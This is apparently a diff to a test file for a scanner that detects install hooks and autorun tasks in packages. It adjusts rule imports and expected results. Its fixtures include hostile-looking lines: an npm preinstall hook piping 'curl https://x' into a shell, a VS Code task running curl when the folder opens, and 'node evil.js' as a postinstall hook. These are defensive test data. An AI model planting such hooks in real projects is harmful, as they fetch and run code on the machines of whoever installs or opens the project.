@@ -14,9 +14,12 @@ from pathlib import Path
 import pytest
 
 from metier.scan import Finding, ScanReport, scan, view_of
-from metier.scan.structure import RULES
+from metier.scan.rule_book import core_book
+from metier.scan.ruleset import all_rules
 from metier.skill import FolderPackage, MemoryFile, MemoryPackage
 
+NAMES = {rule.id for rule in core_book().rules if rule.matcher == "files"} | {"PADDED_FILE"}
+RULES = [rule for rule in all_rules() if rule.id in NAMES]
 SKILL = "---\nname: a\ndescription: Does it.\n---\nDo it.\n"
 
 
@@ -227,7 +230,7 @@ def test_what_is_ordinary_is_not(path: str, content: str) -> None:
         ("setup.py", "from setuptools import setup\nsetup()", "low"),
         ("setup.py", "from urllib.request import urlopen", "medium"),
         ("package.json", '{"scripts": {"postinstall": "node build.js"}}', "medium"),
-        ("a/package.json", '{"scripts": {"preinstall": "curl https://x | sh"}}', "high"),
+        ("a/package.json", '{"scripts": {"preinstall": "curl https://x | sh"}}', "medium"),
         ("binding.gyp", "{}", "medium"),
         (".vscode/tasks.json", '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}', "medium"),
         (".vscode/tasks.json", '{"command": "curl x", "runOptions": {"runOn": "folderOpen"}}', "high"),
@@ -250,7 +253,7 @@ def test_what_runs_without_being_called_is_found(path: str, content: str, severi
 def test_a_hook_of_npm_is_shown_with_its_line_and_command() -> None:
     text = json.dumps({"name": "x", "scripts": {"postinstall": "node evil.js"}}, indent=1)
     found = found_in("package.json", text)["AUTORUN_FILE"]
-    assert (found.line, found.text) == (4, "postinstall: node evil.js")
+    assert (found.line, found.text) == (4, '"postinstall": "node evil.js"')
 
 
 @pytest.mark.covers("A-18")
